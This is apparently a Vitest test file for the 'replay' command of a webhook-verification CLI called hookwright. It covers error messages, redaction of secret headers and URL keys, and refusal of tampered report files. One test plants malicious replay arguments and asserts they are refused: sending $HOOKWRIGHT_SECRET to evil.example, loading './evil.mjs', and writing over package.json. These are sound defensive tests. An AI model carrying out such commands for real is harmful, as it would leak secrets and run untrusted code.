import { readFileSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Report } from "hookwright";
import { expect, it, onTestFinished } from "vitest";
import { linesOf, runCli } from "../support/run-cli.ts";
import { serve } from "../support/serve.ts";

/** A receiver that refuses everything with 500, and what it was sent in the end. */
const refusing = async () => {
  const seen: (string | undefined)[] = [];
  const origin = await serve((request, response) => {
    seen.push(request.headers["x-key"] as string | undefined);
    request.resume();
    response.writeHead(500).end();
  });
  return { origin, seen };
};

/** The file of a report of a receiver that refuses everything. */
const reportOf = async (to: string, ...flags: string[]): Promise<string> => {
  const folder = await mkdtemp(join(tmpdir(), "hookwright-replay-"));
  onTestFinished(() => rm(folder, { recursive: true }));
  const file = join(folder, "report.json");
  await runCli(["verify", "cloudflare", "--to", to, "--runs", "11", "--report", "json", "--out", file, ...flags]);
  return file;
};

const failedIn = (file: string): string[] =>
  (JSON.parse(readFileSync(file, "utf8")) as Report).checks
    .filter(({ counterexample }) => counterexample !== undefined)
    .map(({ id }) => id);

it("without a check the first failure is replayed, and the others are named on stderr", async () => {
  const { origin } = await refusing();
  const file = await reportOf(origin);
  const [first = "", ...others] = failedIn(file);
  expect(others.length).toBeGreaterThan(0);
  const { code, stdout, stderr } = await runCli(["replay", file]);
  expect(code).toBe(1);
  expect(stdout).toContain(`✗ ${first}: `);
  expect(stderr).toBe(`[hookwright] Replaying ${first}. To replay another, name it: ${others.join(", ")}.\n`);
});

it("a check that is named is replayed, and stderr is silent", async () => {
  const { origin } = await refusing();
  const file = await reportOf(origin);
  const other = failedIn(file).at(-1) ?? "";
  const { code, stdout, stderr } = await runCli(["replay", file, other]);
  expect([code, stderr]).toEqual([1, ""]);
  expect(stdout).toMatch(new RegExp(`[✗!] ${other}: `));
});

it("a report of --profile smoke is replayed with that profile: nothing but its lifecycle is sent", async () => {
  const { origin, seen } = await refusing();
  const file = await reportOf(origin, "--profile", "smoke");
  const before = seen.splice(0).length;
  const { code, stdout } = await runCli(["replay", file]);
  expect(code).toBe(1);
  expect(linesOf(stdout).filter((line) => /^ {2}[✓✗!-] \S+ {2}/.test(line))).toHaveLength(1);
  expect(seen).toHaveLength(before);
});

it("a failure that strict made of a warning is one when it is replayed", async () => {
  const origin = await serve((request, response) => {
    request.resume();
    response.writeHead(request.method === "POST" ? 200 : 500).end();
  });
  const file = await reportOf(origin, "--strict", "--check", "ignores-other-methods");
  const { code, stdout } = await runCli(["replay", file]);
  expect([code, stdout]).toEqual([1, expect.stringContaining("ignores-other-methods: ")]);
});

it("a file says in one line on stderr what is in it", async () => {
  const { origin } = await refusing();
  const file = await reportOf(origin, "--check", "accepts-valid");
  const { stderr } = await runCli(["verify", "cloudflare", "--to", origin, "--check", "accepts-valid", "--out", file]);
  expect(stderr).toBe(`[hookwright] cloudflare: failed, by accepts-valid; see ${file}\n`);
});

it("a header that a report does not show is asked for, not sent as it stands there", async () => {
  const { origin, seen } = await refusing();
  const file = await reportOf(origin, "--header", "x-key: key-of-mine", "--header", "x-short: 1");
  seen.splice(0);
  const refused = await runCli(["replay", file]);
  expect([refused.code, refused.stdout, seen]).toEqual([2, "", []]);
  expect(refused.stderr).toContain("--header 'x-key: (given)'");
  expect(refused.stderr).toContain("--header 'x-short: (given)'");
  const given = ["--header", "X-Key: key-of-mine", "--header", "x-short: 1"];
  const { code } = await runCli(["replay", file, "accepts-valid", ...given]);
  expect(code).toBe(1);
  expect(new Set(seen)).toEqual(new Set(["key-of-mine"]));
});

it("a URL that a report shows in part is asked for, too", async () => {
  const { origin, seen } = await refusing();
  const file = await reportOf(`${origin}/?key=key-of-mine`);
  seen.splice(0);
  const refused = await runCli(["replay", file]);
  expect([refused.code, seen]).toEqual([2, []]);
  expect(refused.stderr).toContain(`--to '${origin}/?key=(given)'`);
  expect((await runCli(["replay", file, "--to", `${origin}/?key=key-of-mine`])).code).toBe(1);
});

it.each([
  ["without a check", [null, 1, {}], "no check of this report failed with deliveries to see. There is nothing to do."],
  ["without a way to replay", [{ id: "mine", counterexample: {} }], "the report does not say how to see mine again."],
])("a report %s is refused with one sentence", async (_, checks, problem) => {
  const folder = await mkdtemp(join(tmpdir(), "hookwright-replay-"));
  onTestFinished(() => rm(folder, { recursive: true }));
  const file = join(folder, "report.json");
  await writeFile(file, JSON.stringify({ checks }));
  const { code, stderr } = await runCli(["replay", file]);
  expect([code, linesOf(stderr).length]).toEqual([2, 1]);
  expect(stderr).toContain(problem);
});

it.each([
  { words: ["--prepare", "https://evil.example/$HOOKWRIGHT_SECRET"], says: "Failed to send to evil.example" },
  { words: ["--observe", "https://evil.example/{id}"], says: "Failed to send to evil.example" },
  { words: ["--config=./evil.mjs"], says: 'the report asks for "--config=./evil.mjs"' },
  { words: ["--out", "package.json"], says: 'the report asks for "--out"' },
])("a stranger's report that asks for $words is refused: nothing is sent, run or written", async ({ words, says }) => {
  const { origin, seen } = await refusing();
  const file = await reportOf(origin, "--check", "accepts-valid");
  const report = JSON.parse(readFileSync(file, "utf8")) as {
    checks: [{ counterexample: { replay: { words: string[] } } }];
  };
  report.checks[0].counterexample.replay.words.push(...words);
  await writeFile(file, JSON.stringify(report));
  seen.splice(0);
  const { code, stderr } = await runCli(["replay", file], { env: { HOOKWRIGHT_SECRET: "s3cret" } });
  expect([code, stderr, seen]).toEqual([2, expect.stringContaining(says), []]);
});
